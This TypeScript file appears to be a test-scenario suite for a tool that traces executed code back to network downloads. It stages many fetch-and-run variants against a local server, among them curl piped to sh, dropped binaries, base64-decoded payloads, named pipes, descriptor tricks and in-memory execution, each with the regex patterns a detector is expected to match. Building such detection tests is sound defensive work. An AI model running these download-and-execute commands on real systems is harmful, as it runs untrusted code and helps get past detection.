import type { Scenario } from "../scenario.ts";

/** Code that came over the network. */
export const downloads: readonly Scenario[] = [
  {
    name: "curl | sh",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`curl -s ${stage.served("i.sh")} | sh; : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ sh$/, /curl -s .*\/curl-sh$/],
    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
  },
  {
    name: "a dropped binary, run by another",
    async run(stage) {
      await stage.shell(`cp /usr/bin/curl served; : prepare`);
      await stage.shell(`curl -s ${stage.served("served")} -o k; chmod +x k; : dropper`);
      await stage.shell(`./k -s ${stage.url}; : runner`);
    },
    chain: [/: dropper/, /curl -s .*\/served -o k/, /\.\/k -s/],
    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
  },
  {
    name: "a script that executes something else",
    async run(stage) {
      stage.file("i.sh", `#!/bin/sh\nexec ${stage.payload}\n`);
      await stage.shell(`curl -s ${stage.served("i.sh")} -o x; chmod +x x; : dropper`);
      await stage.shell(`./x; : runner`);
    },
    chain: [/: dropper/, /curl -s .*\/i\.sh -o x$/, /^\d+ curl -s/],
    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
  },
  {
    name: "bash <(curl), in place of the shell that wrote it so",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`exec bash -c "exec bash <(curl -s ${stage.served("i.sh")}; : operator)"`);
    },
    chain: [/curl -s .*\/i\.sh/, /^\d+ bash \/dev\/fd\/\d+/, /curl -s/],
  },
  {
    name: "a decoded download",
    async run(stage) {
      await stage.shell(`echo '${stage.payload}' | base64 -w0 > served; : prepare`);
      await stage.shell(`curl -s ${stage.served("served")} | base64 -d > x; sh x; : operator`);
    },
    chain: [/: operator/, /base64 -d/, /^\d+ sh x$/, /curl -s/],
    beside: [/curl -s .*\/served: /],
  },
  {
    name: "a download that another opens for writing",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(
        `curl -s ${stage.served("i.sh")} -o x; sh -c ': >> x; : bystander'; sh -c ': 4<> x; : bystander'; sh -e x; : operator`,
      );
    },
    chain: [/: operator/, /curl -s .*\/i\.sh -o x$/, /^\d+ sh -e x$/, /curl -s/],
    beside: [/: bystander: opened .*\/x for writing after that; no write was seen/],
    never: [/^\d+ sh -c/],
  },
  {
    name: "curl | sh -e",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`curl -s ${stage.served("i.sh")} | sh -e; : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ sh -e$/, /curl -s/],
  },
  {
    name: "a download under another name",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`curl -s ${stage.served("i.sh")} -o x; ln -s x l; sh l; : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh -o x$/, /^\d+ sh l$/, /curl -s/],
  },
  {
    name: "a download as a descriptor",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`curl -s ${stage.served("i.sh")} -o x; sh /dev/fd/7 7<x; : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh -o x$/, /^\d+ sh \/dev\/fd\/7$/, /curl -s/],
  },
  {
    name: "a process substitution",
    needs: ["bash"],
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.program("bash", "-ec", `bash <(curl -s ${stage.served("i.sh")}); : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ bash \/dev\/fd\/\d+$/, /curl -s/],
  },
  {
    name: "a named pipe as script",
    async run(stage) {
      stage.file("i.sh", `${stage.payload}\n`);
      await stage.shell(`mkfifo f; sh f & curl -s ${stage.served("i.sh")} -o f; wait; : operator`);
    },
    chain: [/: operator/, /curl -s .*\/i\.sh -o f$/, /^\d+ sh f$/, /curl -s/],
  },
  {
    name: "execution from memory",
    async run(stage) {
      await stage.shell("cp /usr/bin/curl served; : prepare");
      await stage.shell(`${stage.actors} fileless 8000 /file${stage.path("served")} ${stage.url}; : loader`);
    },
    chain: [/: loader/, /k -s/],
    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected .* received/],
  },
];
